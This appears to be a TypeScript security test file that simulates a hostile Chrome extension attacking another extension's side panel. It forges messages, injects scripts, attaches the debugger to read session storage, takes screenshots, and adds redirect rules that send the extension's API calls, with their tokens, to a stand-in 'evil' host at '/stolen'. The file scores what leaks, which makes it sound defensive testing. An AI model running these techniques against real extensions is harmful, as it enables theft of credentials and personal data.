import { requireForProof } from '../../../measurement.ts';
import type { Attack, Outcome } from '../attack.types.ts';
import { leavePortal, lookMs, openTab } from '../pages/attacked-tab.ts';
import { personPage } from '../pages/page-attacks.ts';
import { secretsOf, type Stage } from '../stage/open-stage.ts';
import { personalTexts } from '../stage/personal-texts.ts';
import { forgedMessages } from './forged-messages.ts';

// What a script of the hostile extension may use; its types are not part of this repository.
// oxlint-disable-next-line typescript/no-explicit-any -- the browser's own object, in another process
type Chrome = any;

interface Tried {
  readonly worked: readonly string[];
  readonly seen: string;
}

type Attempt = (given: {
  id: string;
  panel: string;
  messages: readonly object[];
  app: string;
  evil: string;
}) => Promise<Tried>;

const given = ({ browser, proxy, evil }: Stage) => ({
  id: browser.id,
  panel: `chrome-extension://${browser.id}/sidepanel.html`,
  messages: forgedMessages,
  app: proxy.url,
  evil: evil.otherHost,
});

interface Hostile {
  readonly name: string;
  readonly isSmall?: boolean;
  readonly attempt: Attempt;
}

const attempts: readonly Hostile[] = [
  {
    name: 'messages and connections to the extension',
    isSmall: true,
    attempt: async ({ id, messages }) => {
      const { chrome } = globalThis as Chrome;
      const worked: string[] = [];
      for (const message of messages) {
        const reply: unknown = await chrome.runtime.sendMessage(id, message).catch(() => undefined);
        if (reply !== undefined) worked.push(`answered with ${JSON.stringify(reply)}`);
        const port = chrome.runtime.connect(id, { name: 'panel' });
        port.onMessage.addListener((heard: unknown) => worked.push(`heard ${JSON.stringify(heard)}`));
        port.onDisconnect.addListener(() => void chrome.runtime.lastError);
        try {
          port.postMessage(message);
        } catch {
          // already refused
        }
      }
      await new Promise((done) => setTimeout(done, 400));
      return { worked, seen: '' };
    },
  },
  {
    name: 'messages to the scripts of the extension in a page',
    attempt: async ({ messages }) => {
      const { chrome } = globalThis as Chrome;
      const worked: string[] = [];
      for (const tab of await chrome.tabs.query({}))
        for (const message of messages) {
          const reply: unknown = await chrome.tabs.sendMessage(tab.id, message).catch(() => undefined);
          if (reply !== undefined && reply !== null) worked.push(`answered with ${JSON.stringify(reply)}`);
        }
      return { worked, seen: '' };
    },
  },
  {
    name: 'a script in the panel',
    isSmall: true,
    attempt: async ({ panel }) => {
      const { chrome } = globalThis as Chrome;
      const worked: string[] = [];
      let seen = '';
      for (const tab of (await chrome.tabs.query({})).filter((each: Chrome) => `${each.url}`.startsWith(panel)))
        for (const world of ['ISOLATED', 'MAIN']) {
          const func = () => document.documentElement.textContent;
          const results = await chrome.scripting
            .executeScript({ target: { tabId: tab.id }, world, func })
            .catch(() => null);
          if (results !== null) worked.push(`a script ran in the panel, ${world}`);
          seen += JSON.stringify(results);
        }
      return { worked, seen };
    },
  },
  {
    name: 'a picture of the panel',
    attempt: async ({ panel }) => {
      const { chrome } = globalThis as Chrome;
      const worked: string[] = [];
      const tab = await chrome.tabs.create({ url: panel, active: true }).catch(() => null);
      await new Promise((done) => setTimeout(done, 1_200));
      if (tab !== null) {
        const picture = await chrome.tabs.captureVisibleTab(tab.windowId, { format: 'png' }).catch(() => null);
        const [front] = await chrome.tabs.query({ active: true, windowId: tab.windowId });
        if (picture !== null && `${front?.url}`.startsWith(panel)) worked.push('a picture of the panel was taken');
        await chrome.tabs.remove(tab.id);
      }
      return { worked, seen: '' };
    },
  },
  {
    name: 'the debugger at the panel and the worker',
    isSmall: true,
    attempt: async ({ id, panel }) => {
      const { chrome } = globalThis as Chrome;
      const worked: string[] = [];
      let seen = '';
      const targets = await chrome.debugger.getTargets();
      const theirs = targets.filter((each: Chrome) => `${each.url}`.startsWith(`chrome-extension://${id}/`));
      const tabs = (await chrome.tabs.query({})).filter((each: Chrome) => `${each.url}`.startsWith(panel));
      const all = [
        ...theirs.map((each: Chrome) => ({ targetId: each.id })),
        ...tabs.map((each: Chrome) => ({ tabId: each.id })),
        { extensionId: id },
      ];
      for (const target of all) {
        const isAttached = await chrome.debugger.attach(target, '1.3').then(
          () => true,
          () => false,
        );
        if (!isAttached) continue;
        worked.push(`attached to ${JSON.stringify(target)}`);
        const expression = `chrome.storage.session.get(null).then(JSON.stringify)`;
        const command = { expression, awaitPromise: true, returnByValue: true };
        seen += JSON.stringify(await chrome.debugger.sendCommand(target, 'Runtime.evaluate', command).catch(String));
        await chrome.debugger.detach(target);
      }
      return { worked, seen };
    },
  },
  {
    name: 'files of the extension, as a page or another extension fetches them',
    attempt: async ({ id }) => {
      const worked: string[] = [];
      for (const file of ['manifest.json', 'sidepanel.html', 'background.js', 'portal-page.js', 'app-bridge.js']) {
        const reply = await fetch(`chrome-extension://${id}/${file}`).catch(() => null);
        if (reply?.ok) worked.push(`${file} was fetched`);
      }
      return { worked, seen: '' };
    },
  },
];

const judged = (stage: Stage, { worked, seen }: Tried): Outcome => {
  const secrets = [...secretsOf(stage), ...personalTexts(stage.application, stage.pack)];
  return { actedOn: worked, leaked: secrets.filter((secret) => seen.includes(secret)) };
};

// Calls of the extension that are sent elsewhere by a rule of the hostile one.
const redirected: Attack<Stage> = {
  name: 'calls of the extension sent to another server by a rule',
  isSmall: true,
  async run(stage) {
    const { hostile, evil, proxy, panel } = stage;
    const before = evil.received.length;
    await hostile.evaluate(async ({ evil: to, app }) => {
      const { chrome } = globalThis as Chrome;
      const condition = { regexFilter: `^${app}/extension/.*` };
      const types = ['main_frame', 'sub_frame', 'xmlhttprequest', 'other', 'script'];
      await chrome.declarativeNetRequest.updateSessionRules({
        addRules: [
          {
            id: 1,
            priority: 9,
            action: { type: 'redirect', redirect: { url: `${to}/stolen` } },
            condition: { ...condition, resourceTypes: types },
          },
        ],
      });
    }, given(stage));
    const passed = proxy.passed.length;
    await panel.reload();
    await panel.waitForTimeout(2 * lookMs);
    const isWorking = proxy.passed.length > passed;
    await hostile.evaluate(async () => {
      const { chrome } = globalThis as Chrome;
      await chrome.declarativeNetRequest.updateSessionRules({ removeRuleIds: [1] });
    });
    await panel.reload();
    await leavePortal(stage);
    const sent = evil.received.slice(before).filter((text) => text.includes('/stolen'));
    const secrets = secretsOf(stage);
    return {
      actedOn: sent.map(
        (text) => `sent to another server${isWorking ? '' : ' and nowhere else'}: ${text.slice(0, 60)}`,
      ),
      leaked: secrets.filter((secret) => sent.join('\n').includes(secret)),
    };
  },
};

const redirectedByNetwork: Attack<Stage> = {
  name: 'calls of the extension sent to another server by the network',
  async run(stage) {
    const { proxy, evil, panel } = stage;
    const before = evil.received.length;
    proxy.redirect = (path) => (path.startsWith('/extension/') ? `${evil.otherHost}/stolen` : undefined);
    await panel.reload();
    await panel.waitForTimeout(2 * lookMs);
    proxy.redirect = null;
    await panel.reload();
    await leavePortal(stage);
    const sent = evil.received.slice(before).filter((text) => text.includes('/stolen'));
    return {
      actedOn: sent.map((text) => `followed to another server: ${text.slice(0, 60)}`),
      leaked: secretsOf(stage).filter((secret) => sent.join('\n').includes(secret)),
    };
  },
};

// What it has seen in all pages and requests so far. What is typed on a page of the portal is visible to all who may read that page; the
// application's own session belongs to the application's page. Neither is counted; grants, secrets and answers of other pages are.
const allItHasSeen: Attack<Stage> = {
  name: 'everything it saw in pages, windows and requests',
  isSmall: true,
  async run(stage) {
    const loot = await stage.hostile.evaluate(
      () => (globalThis as unknown as { loot: { where: string; text: string }[] }).loot,
    );
    const places = new Set(loot.map(({ where }) => where));
    const typed = personalTexts(stage.application, stage.pack, ['person']);
    const has = (text: string) => loot.filter((each) => each.text.includes(text));
    requireForProof(
      typed.some((value) => has(value).length > 0),
      `it sees what is typed on a page of the portal: ${[...places].join(', ')}`,
    );
    requireForProof(has('upAndRunning').length > 0, 'it hears the messages of the application');
    requireForProof(has('Bearer ').length > 0, 'it sees the requests of the application');
    const secrets = [...secretsOf(stage), ...personalTexts(stage.application, stage.pack, ['trip'])];
    const leaked = secrets.flatMap((secret) =>
      has(secret).map(({ where, text }) => `${secret} in ${where}: ${text.slice(0, 80)}`),
    );
    const codes = loot.filter(({ text }) => /authorization.{0,20}Extension /i.test(text));
    return {
      actedOn: codes.slice(0, 3).map(({ where }) => `it saw the header of a grant in ${where}`),
      leaked: leaked.slice(0, 20),
    };
  },
};

export const messagesFromAnotherExtension: readonly Attack<Stage>[] = [
  ...attempts.map(({ name, isSmall, attempt }): Attack<Stage> => ({
    name: `${name}, by another extension`,
    isSmall: isSmall ?? false,
    async run(stage) {
      const tab = await openTab(stage, personPage(stage));
      await tab.page.waitForTimeout(lookMs);
      const tried = await stage.hostile.evaluate(attempt, given(stage));
      const held = await tab.fields();
      await tab.close();
      await leavePortal(stage);
      const outcome = judged(stage, tried);
      return { ...outcome, actedOn: [...outcome.actedOn, ...held.map(({ id }) => `${id} was filled`)] };
    },
  })),
  redirected,
  redirectedByNetwork,
  allItHasSeen,
];
